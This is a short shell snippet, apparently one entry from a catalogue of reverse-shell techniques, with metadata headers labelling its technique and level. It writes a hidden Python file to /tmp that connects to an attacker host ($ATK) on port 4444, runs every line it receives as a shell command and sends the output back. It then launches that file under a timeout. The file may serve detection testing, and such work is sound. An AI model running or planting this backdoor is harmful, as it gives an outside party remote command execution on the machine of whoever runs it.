# SPDX-License-Identifier: MIT
# technique: python script: each command from the socket run with subprocess(shell=True)
# level: high
# quick: yes
cat >/tmp/.poll.py <<X
import socket, subprocess
s = socket.create_connection(("$ATK", 4444))
f = s.makefile("rb")
for line in f:
    out = subprocess.run(line.decode(), shell=True, capture_output=True).stdout
    s.sendall(out)
X
t0
timeout 8 python3 /tmp/.poll.py
